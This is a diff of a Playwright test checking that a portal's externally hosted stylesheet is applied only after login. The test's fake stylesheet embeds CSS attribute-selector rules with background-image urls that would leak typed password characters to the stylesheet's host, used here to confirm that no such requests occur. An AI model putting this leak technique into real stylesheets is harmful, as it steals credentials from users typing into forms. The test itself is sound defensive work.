@@ -2,17 +2,46 @@ import { expect, test } from '@playwright/test'
 import { startPortal } from '../portal-server.ts'
 import { serve } from '../static-site.ts'
 
-test("a deployment's stylesheet changes the tokens, under the page's policy", async ({ page }) => {
-  const styles = await serve((_request, response) =>
+const signs = [...'partnerPol-2026']
+
+test("a deployment's stylesheet of another host changes the tokens, and reads no secret (P35)", async ({
+  page,
+}) => {
+  const asked: string[] = []
+  const styles = await serve(({ url, headers }, response) => {
+    asked.push(String(url))
+    const leaks = signs.map(
+      (sign, at) =>
+        `input[value$="${sign}"] { background-image: url(http://${headers.host}/${at}) }`,
+    )
     response
       .writeHead(200, { 'content-type': 'text/css' })
-      .end(':root { --portal-ink: rgb(1, 2, 3) }'),
-  )
+      .end(`:root { --portal-ink: rgb(1, 2, 3) } ${leaks.join(' ')}`)
+  })
   const portal = await startPortal({ PORTAL_STYLESHEET_URL: `${styles.address}/own.css` })
   const said: string[] = []
   page.on('console', (message) => said.push(message.text()))
+  const typesLogin = async () => {
+    await page.getByRole('textbox', { name: 'Login' }).pressSequentially('partner')
+    await expect(page.locator('body')).not.toHaveCSS('color', 'rgb(1, 2, 3)')
+  }
+  await page.goto(`${portal.address}/resetting`)
+  await typesLogin()
   await page.goto(`${portal.address}/login`)
+  await typesLogin()
+  await page.getByRole('textbox', { name: 'Password' }).pressSequentially('Portal-2026')
+  expect(asked).toEqual([])
+  await page.getByRole('button', { name: 'SIGN IN' }).click()
+  await expect(page).toHaveURL(`${portal.address}/`)
   await expect(page.locator('body')).toHaveCSS('color', 'rgb(1, 2, 3)')
+  expect(new Set(asked)).toEqual(new Set(['/own.css']))
+  asked.length = 0
+  // Another document, which has loaded nothing of the sheet.
+  await page.getByRole('button', { name: 'Konto: partner' }).click()
+  await page.getByRole('menuitem', { name: 'Wyloguj się' }).click()
+  await expect(page).toHaveURL(/\/login/)
+  await typesLogin()
+  expect(asked).toEqual([])
   expect(said).toEqual([])
   await portal.stop()
   await styles.stop()
